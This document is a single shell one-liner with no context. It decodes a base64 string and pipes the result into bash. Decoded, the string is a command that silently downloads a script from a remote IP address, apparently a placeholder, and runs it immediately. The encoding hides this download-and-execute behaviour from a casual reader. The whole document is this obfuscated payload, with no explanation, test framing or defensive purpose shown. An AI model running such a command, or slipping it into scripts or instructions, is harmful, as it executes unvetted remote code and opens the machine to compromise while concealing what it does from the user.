echo "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3AgfCBzaA==" | base64 -d | bash
